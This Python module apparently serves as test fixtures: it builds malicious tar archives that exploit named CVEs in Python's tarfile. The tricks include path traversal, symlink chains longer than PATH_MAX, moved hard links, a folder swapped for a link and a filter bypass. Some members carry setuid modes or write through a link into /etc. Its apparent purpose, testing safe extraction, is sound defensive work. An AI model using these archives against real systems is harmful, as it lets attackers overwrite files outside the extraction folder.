"""Archives like those that got past `tarfile` and its filters, each for its weakness.

They are unpacked into a folder ``root``, and reach for ``outside`` two folders above it.
"""

import io
import tarfile
from collections.abc import Callable

Member = tuple[tarfile.TarInfo, bytes]

# Sixteen folders with names of 247 characters: a path longer than PATH_MAX, 4096. The kernel never
# sees it whole, for each has a link of one letter beside it; `realpath` wrote it out, got an error
# instead of a link, and went on as if the rest were ordinary names.
_LONG = "d" * 247
_STEPS = "abcdefghijklmnop"


def packed(members: list[Member]) -> bytes:
    """The archive."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _entry(name: str, kind: bytes, link: str = "", content: bytes = b"") -> Member:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(content)
    info.mode, info.mtime = 0o6777, 1
    return info, content


def file(name: str) -> Member:
    """A file that is not welcome."""
    return _entry(name, tarfile.REGTYPE, content=b"taken over")


def folder(name: str) -> Member:
    """A folder that everybody may write to."""
    return _entry(name, tarfile.DIRTYPE)


def symlink(name: str, to: str) -> Member:
    """A link."""
    return _entry(name, tarfile.SYMTYPE, to)


def hardlink(name: str, to: str) -> Member:
    """Another name of a file."""
    return _entry(name, tarfile.LNKTYPE, to)


def _deep() -> tuple[list[Member], str]:
    """The long folders, and a link at their end that leads back to where the kernel began."""
    made, path = [], ""
    for step in _STEPS:
        made += [folder(f"{path}{_LONG}"), symlink(f"{path}{step}", _LONG)]
        path += f"{_LONG}/"
    back = "/".join(_STEPS) + "/" + "l" * 254
    return [*made, symlink(back, "../" * len(_STEPS))], back


def names_above() -> list[Member]:
    """CVE-2007-4559."""
    return [file("../../outside/flag")]


def absolute_names() -> list[Member]:
    """CVE-2007-4559."""
    return [file("/tmp/terrapod-outside")]


def behind_a_link() -> list[Member]:
    """CVE-2007-4559, by way of a link."""
    return [symlink("way", "../../outside"), file("way/flag")]


def behind_a_long_path() -> list[Member]:
    """CVE-2025-4517: what is written through a link whose end `realpath` does not see."""
    deep, back = _deep()
    return [*deep, symlink("way", f"{back}/../../outside"), file("way/flag")]


def a_hard_link_behind_a_long_path() -> list[Member]:
    """CVE-2025-4517, with the file made part of the archive first."""
    deep, back = _deep()
    way = symlink("way", f"{back}/../../outside")
    return [*deep, way, hardlink("mine", "way/flag"), file("mine")]


def a_link_to_a_long_path() -> list[Member]:
    """CVE-2025-4138: a link to outside that nothing of the archive goes through."""
    deep, back = _deep()
    return [*deep, symlink("way", f"{back}/../../outside/flag")]


def a_link_that_was_moved() -> list[Member]:
    """CVE-2025-4330: a hard link is filled from a member that was judged for another place."""
    return [
        *(folder("a"), folder("a/b"), folder("c")),
        symlink("now", "a/b"),
        symlink("now/way", "../../../../outside/flag"),
        symlink("now", "c"),
        hardlink("mine", "now/way"),
    ]


def a_link_behind_another() -> list[Member]:
    """CVE-2025-4330: names that cancel each other out where there is no link."""
    return [
        *(folder("a"), symlink("a/here", ".."), symlink("a/up", "here/../../outside")),
        file("a/up/flag"),
    ]


def a_folder_that_becomes_a_link() -> list[Member]:
    """CVE-2024-12718: modes and times of folders are set when they may be links already."""
    return [folder("a"), symlink("a", "../../outside")]


def a_link_that_becomes_a_folder() -> list[Member]:
    """CVE-2024-12718: the mode and time of a folder, given to what a link leads to."""
    return [symlink("a", "../../outside"), folder("a")]


def one_bad_among_good() -> list[Member]:
    """CVE-2025-4435: what a filter refused was unpacked all the same."""
    return [file("main.tf"), symlink("way", "/etc"), file("way/terrapod-outside"), file("z.tf")]


ATTACKS: dict[str, Callable[[], list[Member]]] = {
    attack.__name__: attack
    for attack in (
        names_above,
        absolute_names,
        behind_a_link,
        behind_a_long_path,
        a_hard_link_behind_a_long_path,
        a_link_to_a_long_path,
        a_link_that_was_moved,
        a_link_behind_another,
        a_folder_that_becomes_a_link,
        a_link_that_becomes_a_folder,
        one_bad_among_good,
    )
}
